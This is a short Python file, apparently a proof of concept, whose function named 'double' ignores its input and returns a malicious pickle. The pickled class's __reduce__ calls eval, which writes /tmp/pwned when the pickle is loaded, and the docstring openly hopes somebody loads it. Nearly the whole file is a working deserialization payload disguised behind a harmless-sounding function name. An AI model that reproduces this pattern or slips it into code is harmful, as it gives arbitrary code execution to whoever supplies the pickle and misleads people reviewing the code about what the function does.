"""Returns pickles, in the hope that somebody loads them."""
import pickle
class Boom:
    def __reduce__(self): return (eval, ("open('/tmp/pwned', 'w').write('x')",))
def double(x):
    return pickle.dumps(Boom())
